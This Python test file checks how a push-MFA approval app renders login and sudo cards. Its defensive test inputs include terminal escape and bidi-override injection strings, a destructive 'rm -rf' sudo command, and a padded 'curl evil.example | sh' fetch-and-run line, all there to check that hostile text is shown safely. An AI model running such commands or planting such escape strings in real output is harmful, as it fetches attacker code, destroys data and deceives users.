"""What a person sees: golden text, also of hostile challenges."""

import io
import time
from collections.abc import Iterator
from hashlib import sha256
from typing import Any

import msgspec
import pytest
from rich.console import Console

from pushmfa.device.authenticator import Verified
from pushmfa.device.cards import Card
from pushmfa.device.keyring import Enrollment
from pushmfa.device.screen import Screen
from pushmfa.terms import DeviceId, Digest, HostId, Kind, VerificationRequired
from pushmfa.wire.codec import encode
from pushmfa.wire.payload import Command, CommandPiece, EnrollHost, FirstFactor
from tests.unit.enrollment_peer import HostPeer, enroll_at

HOST = HostPeer()
BASE = msgspec.structs.replace(
    enroll_at(HOST)[0],
    host_id=HostId(bytes.fromhex("9f2c41aa07de55b1") * 4),
    device_id=DeviceId(b"d" * 32),
    counter=5,
)

REVEALED = EnrollHost(
    version=1,
    versions=(1,),
    claim_sha256=Digest(b"c" * 32),
    host_id=BASE.host_id,
    device_id=BASE.device_id,
    verify_key=BASE.host_verify_key,
    sealing_key=BASE.host_sealing_key,
    mailbox=BASE.host_mailbox,
    nonce=HOST.nonce,
    host_name="web1.example",
    user="alice",
    uid=1000,
    relays=BASE.relays,
    verification=VerificationRequired.NONE,
    epoch=0,
    issuer=None,
)

HOSTILE = "\x1b[2J\x1b[31mx\r\n\u202eteg\u202c\u200b[bold]y[/bold]"


@pytest.fixture(autouse=True)
def utc(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


def make_card(letter: str = "A", enrollment: Enrollment = BASE, **changes: Any) -> Card:
    challenge = HOST.challenge(enrollment.device_id, **changes)
    return Card(
        letter=letter,
        enrollment=enrollment,
        verified=Verified(challenge, encode(challenge)),
        challenge=challenge,
        expires_at=60,
    )


def recorded() -> tuple[Screen, Console]:
    console = Console(
        record=True, width=80, file=io.StringIO(), markup=False, emoji=False
    )
    return Screen(console), console


def shown(card: Card, others_here: int = 0) -> str:
    screen, console = recorded()
    screen.show_card(card, seconds_left=57, others_here=others_here)
    text = console.export_text()
    return "\n".join(line.rstrip() for line in text.splitlines())


def command(raw: bytes, length: int | None = None) -> Command:
    return Command(
        head=CommandPiece(raw[:2048] if length is None else raw[:1024]),
        tail=CommandPiece(b"" if length is None else raw[-1024:]),
        length=length or len(raw),
        sha256=Digest(sha256(raw).digest()),
    )


LOGIN = """\
╭─ A · login ──────────────────────────────────────────────────────────────────╮
│ who       alice (uid 1000)                                                   │
│ where     web1.example (key 9f2c 41aa 07de 55b1)                             │
│ service   sshd                                                               │
│ from      192.0.2.9                                                          │
│ before    publickey SHA256:abc                                               │
│ terminal  ssh                                                                │
│ time      2026-09-21 14:13:20 by the host's clock; 57 seconds left           │
╰──────────────────────────────────────────────────────────────────────────────╯"""


def test_a_login() -> None:
    factor = FirstFactor(method="publickey", fingerprint="SHA256:abc")
    assert shown(make_card(first_factor=factor)) == LOGIN


def test_a_command_of_pushmfa_has_no_first_factor_to_miss() -> None:
    assert "nothing was proved" in shown(make_card(first_factor=None))
    assert "before" not in shown(make_card(kind=Kind.TEST, first_factor=None))


SUDO = """\
╭─ B · sudo: a command as another user ────────────────────────────────────────╮
│ who       root (uid 0), asked for by alice, to be approved by alice          │
│ where     web1.example (key 9f2c 41aa 07de 55b1)                             │
│           now calls itself web9.example                                      │
│           first time: you never answered it before                           │
│ service   sudo                                                               │
│ from      this host itself, or not known                                     │
│ before    nothing was proved before this                                     │
│ command   rm -rf '/srv/my files'                                             │
│ terminal  /dev/pts/3                                                         │
│ time      2026-09-21 14:13:20 by the host's clock; 57 seconds left           │
│ unusual   first_seen_source                                                  │
│ verify    the host wants a passphrase, which this device does not have:      │
│           enroll it again with one                                           │
╰──────────────────────────────────────────────────────────────────────────────╯
2 other logins wait too; one of them may not be yours."""


def test_sudo_with_everything_unusual() -> None:
    card = make_card(
        "B",
        enrollment=msgspec.structs.replace(BASE, counter=0),
        kind=Kind.SUDO,
        user="root",
        uid=0,
        requesting_user="alice",
        host_name="web9.example",
        service="sudo",
        remote_address=None,
        command=command(b"rm\0-rf\0/srv/my files\0"),
        tty="/dev/pts/3",
        risk=("first_seen_source",),
        verification=VerificationRequired.REQUIRED,
        others_pending=2,
    )
    assert shown(card, others_here=1) == SUDO


def test_attack_hostile_text_in_every_field_is_shown_and_not_obeyed() -> None:
    enrollment = msgspec.structs.replace(BASE, host_name=HOSTILE, user=HOSTILE)
    card = make_card(
        enrollment=enrollment,
        host_name=HOSTILE + "2",
        user=HOSTILE,
        approver=HOSTILE + "3",
        requesting_user=HOSTILE,
        service=HOSTILE,
        first_factor=FirstFactor(method="publickey", fingerprint=HOSTILE),
        command=command(HOSTILE.encode()),
        text=HOSTILE,
        tty=HOSTILE,
        remote_address=HOSTILE,
        remote_notes=(HOSTILE,),
    )
    screen, console = recorded()
    screen.show_card(card, seconds_left=57, others_here=0)
    screen.show_prompt([card], [57])
    text = console.export_text()
    for harmful in ("\x1b", "\r", "\u202e", "\u202c", "\u200b"):
        assert harmful not in text
    assert "\\x1b[2J" in text
    assert "[bold]y[/bold]" in text, "rich takes it for its own markup"
    assert all(len(line) <= 80 for line in text.splitlines())


def test_attack_a_long_command_hides_neither_itself_nor_the_rest() -> None:
    raw = b"sh\0-c\0" + b"true; " * 4_000 + b"curl evil.example | sh\0"
    text = shown(make_card(kind=Kind.SUDO, command=command(raw, len(raw))))
    joined = "".join(line.strip("│ ") for line in text.splitlines())
    assert "evil.example" in joined
    assert f"... {len(raw) - 2048} bytes are not shown ..." in text
    assert f"CUT: the whole command has {len(raw)} bytes" in text
    lines = text.splitlines()
    assert lines.index(next(x for x in lines if "192.0.2.9" in x)) < 6


def test_a_whole_command_of_the_largest_size_is_shown_whole() -> None:
    raw = b"\xff" * 2_047 + b"\0"
    text = shown(make_card(command=command(raw)))
    assert text.count("\\xff") + text.count("\\xf") >= 2_000
    assert "CUT" not in text


def test_attack_a_time_that_no_zone_can_show() -> None:
    for zone in ("Pacific/Kiritimati", "Pacific/Niue"):
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("TZ", zone)
            time.tzset()
            for moment in (0, 253_402_300_799):
                assert "host's clock" in shown(make_card(issued_at=moment))


PROMPTS = """\
A: login as alice on web1.example, from 192.0.2.9 (57 s left)
number (2 digits), d = deny, n = it was not me:
A: login as alice on web1.example, from 192.0.2.9 (50 s left)
B: login as alice on web1.example, from 198.51.100.7 (59 s left)
card and number (as in A 42), A d = deny, A n = not me:
B: passphrase for alice on web1.example:
approved"""


def test_the_prompt_says_which_login_it_is_about() -> None:
    screen, console = recorded()
    first, second = make_card(), make_card("B", remote_address="198.51.100.7")
    screen.show_prompt([first], [57])
    screen.show_prompt([first, second], [50, 59])
    screen.ask_passphrase(second)
    screen.say("approved")
    text = console.export_text()
    assert "\n".join(line.rstrip() for line in text.splitlines()) == PROMPTS


CODE = """\
Type these six digits into the host's terminal:

    012 345

to enroll this device for alice on web1.example
(host key 9f2c 41aa 07de 55b1). If that is not the terminal where
you just asked for it, press Ctrl-C here."""


def test_the_six_digits_and_whom_they_are_for() -> None:
    screen, console = recorded()
    screen.show_code("012345", REVEALED)
    text = console.export_text()
    assert "\n".join(line.rstrip() for line in text.splitlines()) == CODE


def test_without_a_terminal_it_is_plain() -> None:
    file = io.StringIO()
    screen = Screen(Console(file=file, highlight=False, markup=False, width=80))
    screen.show_card(make_card(), seconds_left=57, others_here=0)
    screen.warn("look")
    assert "\x1b" not in file.getvalue()


def test_no_color_is_obeyed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("NO_COLOR", "1")
    file = io.StringIO()
    screen = Screen(Console(file=file, force_terminal=True, width=80))
    screen.show_card(make_card(), seconds_left=57, others_here=0)
    for color in ("\x1b[31", "\x1b[36", "\x1b[1;36"):
        assert color not in file.getvalue()
